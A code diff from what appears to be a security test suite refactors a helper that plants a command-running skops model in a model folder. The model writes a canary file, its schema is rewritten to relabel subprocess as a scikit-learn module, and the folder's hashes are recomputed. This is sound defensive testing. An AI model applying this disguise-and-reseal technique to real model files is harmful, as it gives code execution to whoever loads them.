@@ -1,7 +1,6 @@
 """What an attacker who can write a model folder does: change a file, then recompute every hash the folder records."""
 
 import hashlib
-import io
 import json
 import shlex
 import zipfile
@@ -88,13 +87,21 @@ def command_running_model(canary: Path, width: int) -> Pipeline:
     )
 
 
+def edit_schema(folder: Path, edit) -> None:
+    """Rewrite the schema.json inside the folder's skops file with ``edit`` (bytes to bytes), and reseal."""
+    model_file = folder / "model.skops"
+    with zipfile.ZipFile(model_file) as source:
+        items = [(item, source.read(item)) for item in source.infolist()]
+    with zipfile.ZipFile(model_file, "w") as target:
+        for item, data in items:
+            target.writestr(item, edit(data) if item.filename == "schema.json" else data)
+    reseal(folder)
+
+
 def plant_exploit(folder: Path, canary: Path, width: int) -> None:
     """Replace a folder's model with the exploit, naming check_output by its scikit-learn module, and reseal."""
-    buffer = io.BytesIO(skops.io.dumps(command_running_model(canary, width)))
-    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(folder / "model.skops", "w") as target:
-        for item in source.infolist():
-            data = source.read(item)
-            if item.filename == "schema.json":  # skops records subprocess, the module that defines it
-                data = data.replace(b'"__module__": "subprocess"', b'"__module__": "sklearn.utils._testing"')
-            target.writestr(item, data)
-    reseal(folder)
+    (folder / "model.skops").write_bytes(skops.io.dumps(command_running_model(canary, width)))
+    # skops records subprocess, the module that defines check_output; the attacker names the scikit-learn one
+    edit_schema(
+        folder, lambda schema: schema.replace(b'"__module__": "subprocess"', b'"__module__": "sklearn.utils._testing"')
+    )
